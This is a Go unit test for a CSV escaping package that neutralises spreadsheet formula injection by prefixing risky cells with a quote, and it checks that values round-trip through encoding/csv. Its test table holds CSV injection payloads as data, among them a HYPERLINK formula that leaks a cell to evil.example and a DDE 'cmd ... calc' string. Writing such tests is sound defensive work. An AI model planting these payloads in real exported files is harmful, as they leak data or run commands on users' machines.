package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// hostileCells are text cells a spreadsheet would run or misread, and
// ordinary ones that must pass through as they are.
var hostileCells = []struct {
	in, want string
}{
	{`=HYPERLINK("http://evil.example/?leak="&A1,"click")`, `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`},
	{"=1+1", "'=1+1"},
	{"+1-2", "'+1-2"},
	{"-5", "'-5"},
	{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
	{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{"'quoted", "''quoted"},
	{"''", "'''"},
	{"'", "''"},
	{"", ""},
	{"c-42", "c-42"},
	{"a=b", "a=b"},
	{" =1", " =1"},
	{"agent@example.com", "agent@example.com"},
	{"2026-03-02", "2026-03-02"},
}

func TestEscape(t *testing.T) {
	for _, c := range hostileCells {
		if got := Escape(c.in); got != c.want {
			t.Errorf("Escape(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestRoundTripThroughCSV writes every cell through encoding/csv and reads
// it back: Unescape must return the original value, byte for byte.
func TestRoundTripThroughCSV(t *testing.T) {
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	for _, c := range hostileCells {
		if err := w.Write([]string{Escape(c.in), "1"}); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(hostileCells) {
		t.Fatalf("read %d rows, wrote %d", len(rows), len(hostileCells))
	}
	for i, c := range hostileCells {
		if rows[i][0] != c.want {
			t.Errorf("cell %d in the file is %q, want %q", i, rows[i][0], c.want)
		}
		if got := Unescape(rows[i][0]); got != c.in {
			t.Errorf("read back %q, wrote %q", got, c.in)
		}
	}
}
